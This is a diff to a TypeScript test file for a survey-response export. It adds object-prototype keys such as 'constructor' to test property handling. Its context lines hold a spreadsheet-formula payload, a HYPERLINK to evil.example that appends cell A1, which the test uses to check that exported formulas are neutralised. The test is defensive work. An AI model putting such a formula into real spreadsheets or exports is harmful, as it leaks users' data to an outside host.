@@ -9,6 +9,9 @@ import { postAll } from "../scores/answers.ts";
 const optionsOf = (...keys: string[]) => keys.map((key) => ({ key, text: { en: key } }));
 const HOSTILE = `=HYPERLINK("http://evil.example?"&A1,"Click")`;
 
+/** Keys that every object answers to. */
+const AWKWARD = ["valueOf", "constructor", "toString"];
+
 const SURVEYS = [
   {
     touchpoint: "rated",
@@ -18,6 +21,7 @@ const SURVEYS = [
       { key: "plan", type: "string" },
       { key: "items", type: "number" },
       { key: "member", type: "boolean" },
+      ...AWKWARD.map((key) => ({ key, type: "string" })),
     ],
   },
   {
@@ -49,7 +53,7 @@ beforeAll(async () => {
       properties: { plan: "pro", items: -3, member: false },
     },
     { dismissed: true },
-    { answer: 5, properties: { plan: "-1+1", items: 0.5 } },
+    { answer: 5, properties: { plan: "-1+1", items: 0.5, constructor: "Tesla" } },
   ]);
   await postAll(collector, key, "told", [
     { answer: HOSTILE, properties: { room: "a,b" } },
@@ -96,6 +100,7 @@ function recordOf(one: ResponseSchema): Record<string, string> {
       : typeof value === "string"
         ? value.replace(/^(?='*[=+\-@])/, "'")
         : plain(value);
+  const own: Record<string, ResponseSchema["properties"][string] | undefined> = { __proto__: null, ...one.properties };
   return {
     id: one.id,
     touchpoint: one.touchpoint,
@@ -122,6 +127,7 @@ function recordOf(one: ResponseSchema): Record<string, string> {
     "properties.plan": cell(one.properties["plan"]),
     "properties.items": cell(one.properties["items"]),
     "properties.member": cell(one.properties["member"]),
+    ...Object.fromEntries(AWKWARD.map((key) => [`properties.${key}`, plain(own[key])])),
     "properties.room": cell(one.properties["room"]),
   };
 }
